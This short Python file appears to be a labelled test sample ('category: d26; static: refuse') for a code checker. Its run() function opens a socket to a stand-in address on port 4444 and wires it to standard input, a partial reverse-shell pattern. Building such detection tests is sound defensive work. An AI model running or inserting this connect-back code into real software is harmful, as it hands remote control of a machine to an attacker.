# category: d26; static: refuse
import os
import socket

def run() -> dict:
    s = socket.socket()
    s.connect(("192.0.2.1", 4444))
    os.dup2(s.fileno(), 0)
    return {}
